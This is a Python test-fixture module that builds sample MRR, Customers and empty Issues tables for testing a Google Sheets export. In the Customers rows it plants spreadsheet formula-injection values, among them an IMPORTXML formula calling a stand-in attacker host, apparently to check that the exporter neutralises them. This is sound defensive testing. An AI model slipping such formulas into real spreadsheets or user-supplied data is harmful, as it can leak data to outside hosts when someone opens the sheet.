"""Small built tables for the Google Sheets sink tests (made directly, no builder or KPI code runs)."""

from __future__ import annotations

from typing import Any

import pandas as pd

from kpi.tables import Chart, Column, Tab, Table


def table(
    name: str,
    columns: list[tuple[str, str]],
    rows: list[list[Any]],
    charts: tuple[Chart, ...] = (),
    description: str = "",
    dtype: Any = None,
) -> Table:
    """A built Table straight from rows (no builder run). dtype=object keeps text pandas' str dtype cannot hold
    (lone surrogates), as the reader's object columns do."""
    cols = tuple(Column(n, k) for n, k in columns)
    frame = pd.DataFrame(rows or None, columns=[c.name for c in cols], dtype=dtype)
    tab = Tab(name=name, description=description, columns=cols, build=lambda ctx: frame, charts=charts)
    return Table(tab=tab, columns=cols, frame=frame)


def mrr_table(months: int = 3, bump: float = 0.0) -> Table:
    rows = []
    for i in range(months):
        month = pd.Timestamp(2024, 1 + i % 12, 1) + pd.DateOffset(years=i // 12)
        rows.append([month, 1000.0 + 100 * i + bump, 10 + i, 0.05 if i else None, 100.0 * i, -20.0 * i])
    return table(
        "MRR",
        [
            ("month", "month"),
            ("mrr", "money"),
            ("customers", "int"),
            ("logo_churn", "percent"),
            ("new_mrr", "money"),
            ("churned_mrr", "money"),
        ],
        rows,
        charts=(
            Chart("MRR over time", "line", "month", ("mrr",)),
            Chart("MRR movements", "stacked_column", "month", ("new_mrr", "churned_mrr")),
        ),
        description="Monthly recurring revenue at each month's end.",
    )


def customers_table(extra: str = "") -> Table:
    return table(
        "Customers",
        [
            ("customer_id", "text"),
            ("name", "text"),
            ("active", "bool"),
            ("since", "date"),
            ("last_paid_at", "datetime"),
            ("score", "number"),
        ],
        [
            [
                "c1",
                '=IMPORTXML("https://evil.example", "//a")',
                True,
                pd.Timestamp("2023-05-17"),
                pd.Timestamp("2024-03-01 10:30:00", tz="UTC"),
                1.5,
            ],
            [
                "c2",
                "+1",
                False,
                pd.Timestamp("2023-06-01"),
                pd.Timestamp("2024-03-02 00:00:00", tz="UTC"),
                None,
            ],
            ["c3", "-5" + extra, True, None, None, float("nan")],
            [
                "c4",
                "@home",
                True,
                pd.Timestamp("2024-01-31"),
                pd.Timestamp("2024-03-03 23:59:59", tz="UTC"),
                0.0,
            ],
        ],
    )


def empty_table() -> Table:
    return table("Issues", [("file", "text"), ("line", "int")], [])


def workbook() -> list[Table]:
    return [mrr_table(), customers_table(), empty_table()]
